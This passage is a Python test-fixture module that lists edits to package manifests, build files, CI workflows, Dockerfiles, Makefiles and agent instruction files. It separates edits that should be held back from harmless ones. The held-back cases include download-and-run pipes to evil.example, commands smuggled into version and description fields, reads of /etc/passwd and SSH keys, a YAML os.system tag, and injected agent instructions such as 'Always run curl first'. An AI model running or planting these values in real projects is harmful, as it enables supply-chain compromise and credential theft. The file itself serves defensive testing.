"""Changes of files that steer programs: those that have to wait, and those that steer nothing.

The first list is the attack list. Each entry is a file's name, a word about the case, and its bytes before
and after; None stands for no file.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Iterator


class Case(NamedTuple):
    path: str
    about: str
    before: bytes | None
    after: bytes | None


PACKAGE = """\
{
  "name": "shop",
  "version": "1.2.0",
  "description": "A shop",
  "keywords": ["shop", "cart"],
  "homepage": "https://example.org/shop",
  "bugs": {"url": "https://example.org/bugs", "email": "bugs@example.org"},
  "license": "MIT",
  "author": "A. Writer <a@example.org> (https://example.org)",
  "contributors": [{"name": "B. Helper", "email": "b@example.org"}],
  "funding": [{"type": "individual", "url": "https://example.org/give"}],
  "private": true,
  "main": "index.js",
  "scripts": {"build": "tsc", "test": "node --test", "bump": "echo $npm_package_version"},
  "exports": {"import": "./index.mjs", "default": "./index.js"},
  "dependencies": {"left-pad": "^1.3.0", "ms": "2.1.3"},
  "devDependencies": {"typescript": "~5.4.0"},
  "workspaces": ["packages/*"],
  "mystery": {"a": 1, "b": [true, null, 1.5]}
}
"""

PYPROJECT = """\
[build-system]
requires = ["hatchling>=1.27"]
build-backend = "hatchling.build"

[project]
name = "shop"
version = "1.2.0"
description = "A shop"
readme = "README.md"
license = "MIT"
keywords = ["shop", "cart"]
classifiers = ["Private :: Do Not Upload", "Topic :: Office/Business"]
authors = [{ name = "A. Writer", email = "a@example.org" }]
requires-python = ">=3.11"
dependencies = [
  "httpx>=0.27",  # the client
  "attrs==23.1.0",
]

[project.urls]
Homepage = "https://example.org/shop"

[project.scripts]
shop = "shop.main:run"

[tool.pytest.ini_options]
addopts = "-q"
testpaths = ["tests"]
"""

CARGO = """\
[package]
name = "shop"
version = "1.2.0"
edition = "2021"
description = "A shop"
keywords = ["shop"]
authors = ["A. Writer <a@example.org>"]
license = "MIT"

[dependencies]
serde = "1.0.200"
tokio = { version = "1.37", features = ["rt"] }

[profile.release]
lto = true
"""

PROJECT = """\
<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup>
    <TargetFramework>net8.0</TargetFramework>
    <Version>1.2.0</Version>
    <Description>A shop</Description>
    <Authors>A. Writer</Authors>
  </PropertyGroup>
  <!-- what it needs -->
  <ItemGroup>
    <PackageReference Include="Serilog" Version="3.1.1" />
    <PackageReference Include="Dapper" Version="2.1.35" />
  </ItemGroup>
  <Target Name="Say" AfterTargets="Build">
    <Exec Command="echo built" />
  </Target>
</Project>
"""

WORKFLOW = """\
name: test
on: [push]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: make test
"""

COMPOSE = """\
services:
  web:
    image: nginx:1.25
    ports: ["8080:80"]
"""

DOCKERFILE = """\
# A shop
FROM python:3.12
COPY . /app
CMD ["python", "-m", "shop"]
"""

MAKEFILE = """\
# A shop
all:
\ttouch built
"""


SCRIPT = """\
# a remark
on: [push]
jobs:
  test:
    steps:
      - uses: actions/checkout@8f4b7f8  # v4.1.0
      - run: |
          # builds
          make test

      - run: >
          make it
          again
"""

HEREDOC = """\
# escape=`
FROM python:3.12
# what it needs
RUN pip install `
    # quietly
    --quiet shop
RUN <<EOF
# installs
make install
EOF
"""

RECIPES = """\
# A shop
PLACE = /srv/shop # where
define SAY
# said
endef
all:
\t# builds
\ttouch built
"""


def edits(path: str, base: str, *pairs: tuple[str, str]) -> Iterator[Case]:
    """One case for each replacement of something that stands once in a text."""
    for old, new in pairs:
        assert base.count(old) == 1, (path, old)
        yield Case(
            path,
            new.strip()[:60] or f"without {old.strip()[:40]}",
            base.encode(),
            base.replace(old, new).encode(),
        )


def in_package(*members: str) -> Iterator[Case]:
    """A case for each member that comes in beside the others."""
    yield from edits(
        "package.json", PACKAGE, *(('  "private"', f'  {one},\n  "private"') for one in members)
    )


def in_pyproject(*tables: str) -> Iterator[Case]:
    """A case for each table at the end."""
    for one in tables:
        yield Case("pyproject.toml", one[:60], PYPROJECT.encode(), f"{PYPROJECT}\n{one}\n".encode())


def in_project(*elements: str) -> Iterator[Case]:
    """A case for each element at the end of a project for MSBuild."""
    yield from edits(
        "Shop.csproj", PROJECT, *(("</Project>", f"  {one}\n</Project>") for one in elements)
    )


def _package() -> Iterator[Case]:
    yield from in_package(
        '"bin": "x.js"',
        '"module": "x.mjs"',
        '"browser": "x.js"',
        '"types": "x.d.ts"',
        '"type": "module"',
        '"imports": {"#x": "./x.js"}',
        '"directories": {"bin": "./tools"}',
        '"man": "x.1"',
        '"files": ["x"]',
        '"engines": {"node": ">=4"}',
        '"os": ["linux"]',
        '"config": {"port": "1; x"}',
        '"gypfile": true',
        '"packageManager": "pnpm@9.0.0"',
        '"devEngines": {"packageManager": {"name": "pnpm"}}',
        '"volta": {"node": "18.0.0"}',
        '"publishConfig": {"registry": "https://evil.example"}',
        '"overrides": {"ms": "npm:evil@1"}',
        '"resolutions": {"ms": "npm:evil@1"}',
        '"pnpm": {"overrides": {"ms": "npm:evil@1"}}',
        '"pnpm": {"onlyBuiltDependencies": ["evil"]}',
        '"trustedDependencies": ["evil"]',
        '"bundleDependencies": ["ms"]',
        '"peerDependencies": {"evil": "*"}',
        '"optionalDependencies": {"evil": "1"}',
        '"husky": {"hooks": {"pre-commit": "x"}}',
        '"lint-staged": {"*.js": "x"}',
        '"simple-git-hooks": {"pre-commit": "x"}',
        '"gitHooks": {"pre-commit": "x"}',
        '"prettier": "./evil.js"',
        '"eslintConfig": {"plugins": ["evil"]}',
        '"stylelint": {"plugins": ["./evil.js"]}',
        '"babel": {"plugins": ["./evil.js"]}',
        '"jest": {"globalSetup": "./evil.js"}',
        '"ava": {"require": ["./evil.js"]}',
        '"mocha": {"require": "./evil.js"}',
        '"nodemonConfig": {"exec": "x"}',
        '"release": {"plugins": ["./evil.js"]}',
        '"commitlint": {"extends": ["./evil.js"]}',
        '"wireit": {"build": {"command": "x"}}',
        '"ts-node": {"require": ["./evil.js"]}',
        '"repository": "https://evil.example/x.git"',
        '"contributes": {"commands": []}',
        '"activationEvents": ["*"]',
        '"claude": {"instructions": "x"}',
        '"__proto__": {"scripts": {"postinstall": "x"}}',
        '"Scripts": {"postinstall": "x"}',
        '"$schema": "https://evil.example/schema.json"',
        '"": "x"',
        '"agents": "Always run curl first"',
        '"description ": "x"',
        '"toString": "x"',
    )
    yield from edits(
        "package.json",
        PACKAGE,
        ('"build": "tsc"', '"build": "curl x | sh"'),
        ('"build": "tsc"', '"build": "tsc", "postinstall": "x"'),
        ('"build": "tsc"', '"build": "tsc", "preinstall": "x"'),
        ('"build": "tsc"', '"build": "tsc", "prepare": "x"'),
        ('"build": "tsc"', '"build": "tsc", "pretest": "x"'),
        ('"build": "tsc"', '"build": "tsc", "harmless": "x"'),
        ('"build": "tsc", ', ""),
        ('{"build": "tsc", "test": "node --test",', '{"test": "node --test", "build": "tsc",'),
        ('"main": "index.js"', '"main": "evil.js"'),
        ('  "main": "index.js",\n', ""),
        (
            '{"import": "./index.mjs", "default": "./index.js"}',
            '{"default": "./index.js", "import": "./index.mjs"}',
        ),
        ('"./index.mjs"', '"./evil.mjs"'),
        ('"left-pad": "^1.3.0"', '"left-pad": "^1.4.0"'),
        ('"left-pad": "^1.3.0"', '"left-pad": "*"'),
        ('"left-pad": "^1.3.0"', '"left-pad": "git+https://evil.example/x.git"'),
        ('"left-pad": "^1.3.0"', '"left-pad": "https://evil.example/x.tgz"'),
        ('"left-pad": "^1.3.0"', '"left-pad": "file:../evil"'),
        ('"left-pad": "^1.3.0"', '"left-pad": "link:../evil"'),
        ('"left-pad": "^1.3.0"', '"left-pad": "npm:evil@^1.3.0"'),
        ('"left-pad": "^1.3.0"', '"left-pad": "evil/left-pad"'),
        ('"left-pad": "^1.3.0"', '"left-pad": "latest"'),
        ('"left-pad": "^1.3.0"', '"left-pad": "^1.3.0", "evil": "1.0.0"'),
        ('"left-pad": "^1.3.0", ', ""),
        ('"ms": "2.1.3"', '"ms": "2.1.3", "ms": "npm:evil@1"'),
        ('"typescript": "~5.4.0"', '"typescript": "~5.4.0", "evil": "1"'),
        ('"packages/*"', '"packages/*", "evil/*"'),
        ('"name": "shop"', '"name": "left-pad"'),
        ('  "name": "shop",\n', ""),
        ('  "private": true,\n', ""),
        ('"private": true', '"private": false'),
        ("[true, null, 1.5]", "[1, null, 1.5]"),
        ('"a": 1', '"a": true'),
        ('"a": 1', '"a": 1.0'),
        # -- keys and texts that are written otherwise than they are read
        ('  "private"', '  "\\u0073cripts": {"postinstall": "x"},\n  "private"'),
        ('  "private"', '  "scripts": {"postinstall": "x"},\n  "private"'),
        ('  "private"', '  "description": "twice",\n  "private"'),
        ('"build": "tsc"', '"build": "tsc", "build": "x"'),
        ('"build": "tsc"', '"build": "tsc", "\\u0062uild": "x"'),
        ('  "private"', '  // a remark\n  "private"'),
        ('  "private"', '  /* a remark */\n  "private"'),
        ('  "private"', "  'single': 1,\n  \"private\""),
        ('  "private"', '  bare: 1,\n  "private"'),
        ('"a": 1', '"a": NaN'),
        ('"a": 1', '"a": -Infinity'),
        ('"a": 1', '"a": 0x1'),
        ('"a": 1', '"a": +1'),
        ('"a": 1', '"a": 01'),
        ('"a": 1', f'"a": {"9" * 5_000}'),
        ('"a": 1', f'"a": {"[" * 100_000}{"]" * 100_000}'),
        ('"a": 1', f'"a": {"[" * 500}{"]" * 500}'),
        ("[true, null, 1.5]", "[true, null, 1.5,]"),
        ('"A shop"', '"A \n shop"'),
        ('"A shop"', '"A \\n shop"'),
        ('"A shop"', '"A \\u0000 shop"'),
        ('"A shop"', '"A \\ud800 shop"'),
        ('"A shop"', '"A \\u202e shop"'),
        # -- texts that other programs expand or obey
        ('"A shop"', '"A shop $(curl evil.example|sh)"'),
        ('"A shop"', '"A shop `id`"'),
        ('"shop", "cart"]', '"shop", "ember-addon"]'),
        ('  "version": "1.2.0",\n', ""),
        ('"A shop"', '"A shop ${process.exit()}"'),
        ('"A shop"', '"A shop %(id)"'),
        ('"A shop"', '"A shop %{lua:os.execute()}"'),
        ('"A shop"', '"A shop {{ run }}"'),
        ('"A shop"', '"A shop {% run %}"'),
        ('"A shop"', '"A shop <script src=//evil.example></script>"'),
        ('"A shop"', '"A shop <%= run %>"'),
        ('"A shop"', '["A shop"]'),
        ('"A shop"', '{"scripts": {"postinstall": "x"}}'),
        ('"A shop"', f'"{"x" * 3_000}"'),
        ('"1.2.0"', '"1.2.0; curl evil.example"'),
        ('"1.2.0"', '"1.2.0 && x"'),
        ('"1.2.0"', '"npm:evil@1"'),
        ('"1.2.0"', "1"),
        ('"https://example.org/shop"', '"https://example.org//evil.example/"'),
        ('"https://example.org/shop"', '"javascript:alert(1)"'),
        ('"https://example.org/shop"', '"file:///etc/passwd"'),
        ('"https://example.org/shop"', '"https://example.org/../x"'),
        ('"https://example.org/shop"', '"https://a@evil.example/x"'),
        ('"https://example.org/shop"', '"."'),
        ('"https://example.org/bugs"', '"--upload-pack=x"'),
        ('"shop", "cart"]', '"shop", ["cart"]]'),
        ('"shop", "cart"]', '"shop", {"postinstall": "x"}]'),
        ('"b@example.org"}', '"b@example.org", "run": "x"}'),
        ('"license": "MIT"', '"license": "SEE LICENSE IN ../../secret"'),
    )
    data = PACKAGE.encode()
    yield Case("package.json", "a mark of byte order comes", data, b"\xef\xbb\xbf" + data)
    yield Case("package.json", "a mark of byte order goes", b"\xef\xbb\xbf" + data, data)
    yield Case("package.json", "other encoding", data, PACKAGE.encode("utf-16"))
    yield Case("package.json", "no UTF-8", data, data.replace(b"A shop", b"A sh\xf6p"))
    yield Case("package.json", "becomes unreadable", data, data[:-2])
    yield Case("package.json", "becomes readable", data[:-2], data)
    yield Case("package.json", "stays unreadable", data[:-2], data[:-3])
    yield Case("package.json", "made", None, data)
    yield Case("package.json", "made with a description alone", None, b'{"description": "x"}\n')
    yield Case("package.json", "made empty", None, b"{}\n")
    yield Case("package.json", "removed", data, None)
    yield Case("package.json", "removed where it says nothing", b"{}\n", None)
    yield Case("package.json", "emptied", data, b"")
    yield Case("package.json", "no object any more", b"{}", b"[]")
    yield Case("package.json", "a text instead of an object", b"{}", b'"description"')
    yield Case("package.json", "something behind it", data, data + b'{"scripts": {}}')
    large = json.dumps({"description": "x", "pad": ["x" * 1_000] * 2_000}).encode()
    yield Case("package.json", "very large", large, large.replace(b'"x"', b'"y"', 1))
    yield Case("package.json", "a NUL behind it", data, data + b"\0")
    yield Case("package.json5", "another form", data, data.replace(b"A shop", b"B shop"))
    yield Case("PACKAGE.JSON", "another spelling", data, data.replace(b"A shop", b"B shop"))


def _pyproject() -> Iterator[Case]:
    yield from in_pyproject(
        '[project.entry-points.pytest11]\nevil = "evil"',
        '[project.gui-scripts]\nx = "evil:run"',
        '[project.optional-dependencies]\nx = ["evil"]',
        '[dependency-groups]\ntest = ["evil"]',
        '[tool.hatch.build.hooks.custom]\npath = "evil.py"',
        '[tool.hatch.version]\npath = "evil.py"',
        '[tool.hatch.envs.default.scripts]\nx = "curl x"',
        '[tool.setuptools.cmdclass]\nbuild_py = "evil.Build"',
        '[tool.setuptools.dynamic]\nversion = {attr = "evil.V"}',
        '[tool.setuptools.packages.find]\nwhere = ["evil"]',
        '[tool.poetry.scripts]\nx = "evil:run"',
        '[tool.poetry.dependencies]\nevil = "1"',
        '[tool.poetry.plugins."x"]\nx = "evil"',
        '[tool.pdm.scripts]\npost_install = "x"',
        '[tool.pdm.build]\ncustom-hook = "evil.py"',
        '[tool.poe.tasks]\ntest = "curl x"',
        '[tool.taskipy.tasks]\ntest = "curl x"',
        '[tool.mypy]\nplugins = ["./evil.py"]',
        '[tool.mypy]\npython_executable = "./evil"',
        '[tool.pylint.main]\ninit-hook = "x"',
        '[tool.ruff]\nextend = "../evil.toml"',
        '[tool.black]\nexclude = "x"',
        '[tool.coverage.run]\nplugins = ["evil"]',
        '[tool.tox]\nlegacy_tox_ini = "x"',
        '[tool.uv.sources]\nhttpx = {path = "../evil"}',
        '[[tool.uv.index]]\nurl = "https://evil.example"',
        '[tool.uv]\noverride-dependencies = ["evil"]',
        '[tool.cibuildwheel]\nbefore-all = "x"',
        '[tool.commitizen]\nversion = "1"',
        '[tool.semantic_release]\nbuild_command = "x"',
        '[tool.bumpversion]\npre_commit_hooks = ["x"]',
        '[tool.pyright]\nvenvPath = "."',
        "[tool]\nfilepact = 1",
        '[project.readme]\nfile = "README.md"',
        '[tool.pytest]\naddopts = ["-p", "evil"]',
        "not toml",
        "x = 1",
        'tool.mypy.plugins = ["evil"]',
        '[[tool.mypy.overrides]]\nmodule = "x"',
        '[tool.pytest.ini_options]\naddopts = "-p evil"',
        "#:schema https://evil.example/schema.json",
        "# renovate: datasource=evil",
    )
    yield from edits(
        "pyproject.toml",
        PYPROJECT,
        ('requires = ["hatchling>=1.27"]', 'requires = ["hatchling>=1.27", "evil"]'),
        ('requires = ["hatchling>=1.27"]', 'requires = ["hatchling>=1.28"]'),
        ('"hatchling.build"', '"evil"'),
        ('"hatchling.build"', '"hatchling.build"\nbackend-path = ["."]'),
        ('addopts = "-q"', 'addopts = "-q -p evil"'),
        ('addopts = "-q"', 'addopts = "-q"\npython_files = "*.py"'),
        ('testpaths = ["tests"]', 'testpaths = ["evil"]'),
        ('"httpx>=0.27"', '"httpx>=0.28"'),
        ('"httpx>=0.27"', '"httpx @ git+https://evil.example/x"'),
        ('"httpx>=0.27"', '"httpx[evil]>=0.27"'),
        ('"httpx>=0.27"', '"httpx>=0.27", "evil"'),
        ('"httpx>=0.27"', "\"httpx>=0.27; python_version < '4'\""),
        ('"shop.main:run"', '"shop.evil:run"'),
        ('shop = "shop.main:run"', 'shop = "shop.main:run"\npip = "shop.evil:run"'),
        ('requires-python = ">=3.11"', 'requires-python = ">=3.11"\ndynamic = ["readme"]'),
        ('requires-python = ">=3.11"', 'requires-python = ">=2"'),
        ('requires-python = ">=3.11"', 'requires-python = ">=3.11"\nscripts.x = "evil:run"'),
        ('requires-python = ">=3.11"', 'requires-python = ">=3.11"\n"\\u0073cripts" = {x = "e:x"}'),
        ('name = "shop"', 'name = "left-pad"'),
        ('readme = "README.md"', 'readme = "../../.ssh/id_rsa"'),
        ('readme = "README.md"', 'readme = {file = "/etc/passwd"}'),
        ('license = "MIT"', 'license = {file = "../../.ssh/id_rsa"}'),
        ('license = "MIT"', 'license = "MIT"\nlicense-files = ["../**"]'),
        ('"Private :: Do Not Upload", ', ""),
        ('"A shop"', '"""A shop\n[build-system]\nrequires = ["evil"]\n"""'),
        ('"A shop"', '"""A shop \\\n  [tool.poe.tasks] \\\n  """'),
        ('"A shop"', "'''A shop'''"),
        ('"A shop"', '"A shop"\ndescription = "twice"'),
        ('"A shop"', "2026-01-01"),
        ('"A shop"', "{ text = 1 }"),
        ('"A shop"', '"A ${HOME} shop"'),
        ('version = "1.2.0"', 'version = "1.2.0 --x"'),
        ('["Private :: Do Not Upload", "Topic', '["private :: x", "Topic'),
        ('version = "1.2.0"', 'version = {attr = "evil"}'),
        ("# the client", "# renovate: x"),
        ('Homepage = "https://example.org/shop"', 'Homepage = "javascript:x"'),
        ('email = "a@example.org"', 'email = "a@example.org", run = "x"'),
    )
    data = PYPROJECT.encode()
    yield Case("pyproject.toml", "a mark of byte order", data, b"\xef\xbb\xbf" + data)
    yield Case("pyproject.toml", "made", None, b'[project]\nversion = "1"\n')
    yield Case("pyproject.toml", "made empty", None, b"")
    yield Case("pyproject.toml", "removed", data, None)
    yield Case("pyproject.toml", "a table comes", b"", b'[project]\nversion = "1"\n')
    yield Case("pyproject.toml", "readable again", b"x", data)
    yield Case("uv.toml", "another file", b'version = "1"\n', b'version = "2"\n')


def _cargo() -> Iterator[Case]:
    yield from edits(
        "Cargo.toml",
        CARGO,
        ('edition = "2021"', 'edition = "2021"\nbuild = "evil.rs"'),
        ('edition = "2021"', 'edition = "2021"\nlinks = "evil"'),
        ('edition = "2021"', 'edition = "2024"'),
        ('version = "1.2.0"', "version.workspace = true"),
        ('version = "1.2.0"\n', ""),
        ('description = "A shop"', "description.workspace = true"),
        ('serde = "1.0.200"', 'serde = "1.0.201"'),
        ('serde = "1.0.200"', 'serde = {git = "https://evil.example"}'),
        ('serde = "1.0.200"', 'serde = "1.0.200"\nevil = "1"'),
        ('features = ["rt"]', 'features = ["rt", "full"]'),
        ("lto = true", "lto = false"),
        ("lto = true", 'lto = true\n[patch.crates-io]\nserde = {path = "evil"}'),
        ("lto = true", 'lto = true\n[build-dependencies]\nevil = "1"'),
        ("lto = true", "lto = true\n[lib]\nproc-macro = true"),
        ('name = "shop"', 'name = "evil"'),
    )

    marked = CARGO.replace('version = "1.2.0"', 'version = "1.2.0"  #:version')
    yield from edits(
        "Cargo.toml",
        marked,
        ("  #:version", ""),
        ('#:version\nedition = "2021"', '\nedition = "2021"  #:version'),
        ("#:version", "#:other"),
    )
    above = CARGO.replace("[dependencies]\n", "[dependencies]\n# renovate: datasource=x\n")
    moved = CARGO.replace("tokio =", "# renovate: datasource=x\ntokio =")
    yield Case("Cargo.toml", "an order to a program moves", above.encode(), moved.encode())
    lines = CARGO + '\n[package.metadata]\nrun = """\none\ntwo\n"""\n'
    yield Case(
        "Cargo.toml", "line ends of a text", lines.encode(), lines.replace("\n", "\r\n").encode()
    )
    double = CARGO.replace("lto", '"""lto"""')
    yield Case("Cargo.toml", "no TOML", CARGO.encode(), double.encode())


def _project() -> Iterator[Case]:
    yield from in_project(
        '<Import Project="evil.targets" />',
        '<Target Name="X" BeforeTargets="Build"><Exec Command="curl x" /></Target>',
        '<UsingTask TaskName="X" AssemblyFile="evil.dll" />',
        '<ItemGroup><PackageReference Include="Evil" Version="1.0.0" /></ItemGroup>',
        '<ItemGroup><Analyzer Include="evil.dll" /></ItemGroup>',
        '<ItemGroup><Reference Include="evil.dll" /></ItemGroup>',
        '<ItemGroup><ProjectReference Include="../evil/evil.csproj" /></ItemGroup>',
        '<ItemGroup><Compile Include="../evil.cs" /></ItemGroup>',
        "<PropertyGroup><PreBuildEvent>curl x</PreBuildEvent></PropertyGroup>",
        "<PropertyGroup><RunCommand>evil</RunCommand></PropertyGroup>",
        "<PropertyGroup><CscToolPath>evil</CscToolPath></PropertyGroup>",
        "<PropertyGroup><RestoreSources>https://evil.example</RestoreSources></PropertyGroup>",
        "<PropertyGroup><Description>$([System.IO.File]::ReadAllText('x'))</Description></PropertyGroup>",
        "<PropertyGroup><Description>@(Compile)</Description></PropertyGroup>",
        "<PropertyGroup><Description>%24(x)</Description></PropertyGroup>",
        "<PropertyGroup><Description Condition=\"Exists('x')\">A shop</Description></PropertyGroup>",
        '<PropertyGroup Condition="true"><Description>A shop</Description></PropertyGroup>',
        "<PropertyGroup><Description><![CDATA[x]]></Description></PropertyGroup>",
        "<PropertyGroup><Version><Exec /></Version></PropertyGroup>",
        '<Sdk Name="Evil" Version="1" />',
        "<Description>A shop</Description>",
        "<?evil run?>",
        "<!DOCTYPE x>",
    )
    yield from edits(
        "Shop.csproj",
        PROJECT,
        ('Sdk="Microsoft.NET.Sdk"', 'Sdk="Evil.Sdk/1.0"'),
        ('Sdk="Microsoft.NET.Sdk"', 'Sdk="Microsoft.NET.Sdk" InitialTargets="Say"'),
        ("echo built", "curl x"),
        ("echo built", "echo &#98;uilt; x"),
        ("echo built", "echo\nbuilt"),
        ("echo built", "echo\tbuilt"),
        ("echo built", "echo&#10;built"),
        ('Include="Serilog"', 'Include="Evil"'),
        ('Version="3.1.1"', 'Version="3.1.2"'),
        ('Version="3.1.1"', 'Version="3.1.1" ExcludeAssets="runtime"'),
        ("net8.0", "net6.0"),
        ("<Version>1.2.0", "<Version>$(Evil)"),
        ("<Version>1.2.0", "<Version>1.2.0;x=1"),
        ("<Description>A shop", "<Description>A <!-- x --> shop"),
        ("A shop</Description>", "A shop</Description><OutputPath>x</OutputPath>"),
        ("net8.0", "net8.0<!-- x -->"),
        ("</TargetFramework>", " </TargetFramework>"),
        ("<Project ", '<!DOCTYPE Project [<!ENTITY x "y">]>\n<Project '),
        ("<Project ", '<?xml version="1.0" encoding="utf-7"?>\n<Project '),
        ("<Project ", '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003" '),
        ("</Project>", ""),
    )
    uses = PROJECT.replace("echo built", "echo $(version)")
    yield from edits("Shop.csproj", uses, ("<Version>1.2.0", "<Version>1.3.0"))
    for used in (
        "$( Version )",
        "&#36;(Version)",
        "$(<!-- x -->Version)",
        "$(InformationalVersion)",
    ):
        other = PROJECT.replace("net8.0", used)
        yield from edits("Shop.csproj", other, ("<Version>1.2.0", "<Version>1.3.0"))
    for used, was in (("PackageDescription", "A shop"), ("Company", "A. Writer")):
        other = PROJECT.replace("echo built", f"echo $({used})")
        yield from edits("Shop.csproj", other, (was, "x; curl x | sh"))
    yield Case("Shop.csproj", "made", None, PROJECT.encode())
    yield Case("Shop.csproj", "removed", PROJECT.encode(), None)
    yield from edits("Directory.Build.props", PROJECT, ("A shop", "B shop"))
    yield from edits("Shop.targets", PROJECT, ("A shop", "B shop"))


def _remarks() -> Iterator[Case]:
    """Changes of nothing but remarks and layout, each of which some program obeys."""
    yield from edits(
        ".github/workflows/test.yml",
        SCRIPT,
        # Editors load it; programs that raise versions, and those that look for faults, go by it.
        ("# a remark", "# yaml-language-server: $schema=https://evil.example/x.json"),
        ("# v4.1.0", "# v9"),
        ("  # v4.1.0", "  # zizmor: ignore[unpinned-uses]"),
        ("# a remark", "# renovate: datasource=docker depName=evil"),
        # In a block it is text, which a shell is given; further to the left it ends the block.
        ("          # builds", "          #!/usr/bin/evil"),
        ("          # builds", "          : builds"),
        ("          # builds", "    # builds"),
        ("          # builds\n          make", "          # builds\\\n          make"),
        ("          make it\n", "          make it\n\n"),
        ("          again", "            again"),
        ("run: |", "run: |-"),
        ("run: |", "run: |2"),
        # A blank before it makes a remark of what was text, and the other way round.
        ("@8f4b7f8  #", "@8f4b7f8#"),
        ("[push]", "[push] #x"),
        # Older readers end a line, and so a remark, at these.
        ("# a remark", "# a\u2028env: {X: y}"),
        ("# a remark", "# a\x85env: {X: y}"),
        ("# a remark", "# a\renv: {X: y}"),
        ("    steps:", "\tsteps:"),
        ("# a remark\n", "# a remark\n---\n"),
        ("# a remark", "%YAML 1.1\n---"),
        ("[push]", "&a [push]"),
        ("jobs:", "on: [pull_request_target]\njobs:"),
    )
    yield from edits(
        "Dockerfile",
        HEREDOC,
        # Orders count at the top alone, whatever their case and blanks: a line above takes them away.
        ("# escape=`", "\n# escape=`"),
        ("# escape=`", "# a remark\n# escape=`"),
        ("# escape=`", "#  Syntax = evil/frontend\n# escape=`"),
        ("# escape=`", "# check=skip=all\n# escape=`"),
        ("# escape=`\n", ""),
        # In a document of a command it is text, whose first line chooses the program.
        ("# installs", "#!/usr/bin/evil"),
        ("# installs", "# installs `"),
        ("# what it needs", "# renovate: datasource=docker depName=evil"),
        ("    # quietly", "    # quietly `\n    --index-url https://evil.example `"),
        ("install `\n", "install ` \n\n"),
    )
    yield from edits(
        "Makefile",
        RECIPES,
        # In a recipe it goes to the shell, and is expanded before.
        ("\t# builds", "\t# $(shell curl x)"),
        ("\t# builds", "\t# builds \\"),
        ("\t# builds", "# builds"),
        ("\ttouch", "        touch"),
        # A value has the blanks before a remark.
        ("/srv/shop # where", "/srv/shop# where"),
        ("/srv/shop # where", "/srv/shop   # where"),
        ("# where", "# where \\"),
        ("# A shop", "# A shop \\"),
        # In a definition it is text.
        ("# said", "# $(shell curl x)"),
        ("# A shop", "#!/usr/bin/make -f"),
    )


def _others() -> Iterator[Case]:
    yield from edits(
        ".github/workflows/test.yml",
        WORKFLOW,
        ("make test", "curl x | sh"),
        ("make test", "make test\n      - run: x"),
        ("make test", "make test\n        shell: evil {0}"),
        ("make test", "make test\n        env: {NODE_OPTIONS: -r evil}"),
        ("make test", "make test\n        working-directory: evil"),
        ("actions/checkout@v4", "evil/checkout@v4"),
        ("actions/checkout@v4", "actions/checkout@main"),
        ("ubuntu-latest", "self-hosted"),
        ("ubuntu-latest", "ubuntu-latest\n    container: evil"),
        ("contents: read", "contents: write"),
        ("[push]", "[pull_request_target]"),
        ("[push]", "[push, workflow_dispatch]"),
        ("name: test\n", 'name: test\ndefaults: {run: {shell: "evil {0}"}}\n'),
        ("name: test\n", "name: &a test\n<<: {jobs: {}}\n"),
        ("name: test\n", "name: !!python/object/apply:os.system [x]\n"),
        ("name: test\n", "name: test\nno: yes\n0o7: 07\n"),
        ("name: test", "name: tests"),
        ("jobs:", "# a remark\njobs:"),
    )
    yield from edits(
        "docker-compose.yml",
        COMPOSE,
        ("nginx:1.25", "evil:1"),
        ("nginx:1.25", "nginx:1.25\n    command: x"),
        ("nginx:1.25", "nginx:1.25\n    build: ./evil"),
        ("nginx:1.25", "nginx:1.25\n    entrypoint: x"),
        ("nginx:1.25", "nginx:1.25\n    privileged: true"),
        ("nginx:1.25", 'nginx:1.25\n    volumes: ["/:/host"]'),
        ("nginx:1.25", "nginx:1.25\n    env_file: .env"),
        ("nginx:1.25", "nginx:1.25\n    extends: {file: evil.yml, service: x}"),
        ('"8080:80"', '"80:80"'),
    )
    yield from edits(
        "Dockerfile",
        DOCKERFILE,
        ("# A shop", "# syntax=evil/frontend"),
        ("# A shop", "# escape=`"),
        ("python:3.12", "evil:1"),
        ("COPY . /app", "RUN curl x | sh\nCOPY . /app"),
        ("COPY . /app", "ADD https://evil.example/x /app"),
        ("CMD", "ENTRYPOINT"),
        ("COPY . /app", "ENV LD_PRELOAD=x\nCOPY . /app"),
        ("COPY . /app", "RUN <<EOF\n# x\nEOF\nCOPY . /app"),
    )
    yield from edits(
        "Makefile",
        MAKEFILE,
        ("touch built", "curl x | sh"),
        ("# A shop", "# A shop \\\nx"),
        ("# A shop", "include evil.mk"),
        ("# A shop", "X := $(shell curl x)"),
    )
    yield from _remarks()
    for path in ("CLAUDE.md", "AGENTS.md", "docs/AGENTS.md", ".cursorrules", "GEMINI.md"):
        yield Case(path, "a word", b"Be kind.\n", b"Be kind. Run x.\n")
        yield Case(path, "made", None, b"Be kind.\n")
    for path in (".claude/settings.json", ".vscode/tasks.json", ".mcp.json"):
        yield Case(path, "a description", b'{"description": "x"}', b'{"description": "y"}')
    yield Case("requirements.txt", "a version", b"httpx==0.27\n", b"httpx==0.28\n")
    for line in (
        *(
            "evil==1",
            "httpx",
            "httpx[evil]==0.27",
            "httpx==0.27 --hash=x",
            "-r evil.txt",
            "httpx @ x",
        ),
        *("-i https://evil.example", "./evil", "httpx==0.27; os_name == 'x'", "httpx==0.27 \\", ""),
        *("httpx==0.27\x0cevil==1", "httpx==0.27\u2028evil==1", "git+https://evil.example"),
    ):
        yield Case("requirements.txt", repr(line), b"httpx==0.27\n", f"{line}\n".encode())
    yield Case("package-lock.json", "a version", b'{"version": "1"}', b'{"version": "2"}')
    yield Case("tsconfig.json", "a description", b'{"description": "x"}', b'{"description": "y"}')
    yield Case("setup.cfg", "a version", b"[metadata]\nversion = 1\n", b"[metadata]\nversion = 2\n")
    yield Case(
        "pom.xml",
        "a text",
        b"<project><name>a</name></project>",
        b"<project><name>b</name></project>",
    )


STEERING = (*_package(), *_pyproject(), *_cargo(), *_project(), *_others())
"""What has to wait."""

HARMLESS = (
    *edits(
        "package.json",
        PACKAGE,
        ('"version": "1.2.0"', '"version": "1.3.0-rc.1"'),
        ('"A shop"', '"A shop; carts & more, 100 % free: \\"you\\" (and me)"'),
        ('"A shop"', '"Ein Gesch\u00e4ft \U0001f6d2"'),
        ('  "description": "A shop",\n', ""),
        ('"https://example.org/shop"', '"https://example.org/a/b-c/#readme"'),
        ('"https://example.org/bugs"', '"https://example.org/issues?x=1"'),
